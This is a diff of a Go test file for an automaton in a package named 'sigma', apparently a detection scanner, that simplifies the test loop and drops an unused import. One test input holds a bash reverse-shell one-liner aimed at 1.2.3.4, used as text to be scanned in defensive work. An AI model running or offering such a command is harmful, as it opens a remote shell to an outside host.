@@ -1,7 +1,6 @@
 package sigma
 
 import (
-	"fmt"
 	"slices"
 	"strings"
 	"testing"
@@ -46,21 +45,18 @@ func TestAutomaton(t *testing.T) {
 		{"non-ASCII kept", "é/x É/X"},
 		{"long", strings.Repeat("x", 100) + "bash -i >& /dev/tcp/1.2.3.4/80 0>&1"},
 	}
-	// with a two-byte pattern the prefilter looks at byte pairs, else at triples
-	for _, pats := range [][]string{pats, pats[:3]} {
-		a := newAutomaton(pats)
-		for _, tt := range tests {
-			t.Run(fmt.Sprintf("%s/%d-byte prefixes", tt.name, a.gram), func(t *testing.T) {
-				hits, ascii := a.scan(tt.text, nil)
-				got, want := distinct(hits), naiveScan(pats, tt.text)
-				if ascii != isASCII(tt.text) {
-					t.Fatalf("scan(%q) says ASCII %v", tt.text, ascii)
-				}
-				if !slices.Equal(got, want) {
-					t.Fatalf("scan(%q) = %v, want %v", tt.text, got, want)
-				}
-			})
-		}
+	a := newAutomaton(pats)
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			hits, ascii := a.scan(tt.text, nil)
+			got, want := distinct(hits), naiveScan(pats, tt.text)
+			if ascii != isASCII(tt.text) {
+				t.Fatalf("scan(%q) says ASCII %v", tt.text, ascii)
+			}
+			if !slices.Equal(got, want) {
+				t.Fatalf("scan(%q) = %v, want %v", tt.text, got, want)
+			}
+		})
 	}
 	t.Run("one-byte patterns", func(t *testing.T) {
 		pats := []string{"x", "ab", "b"}
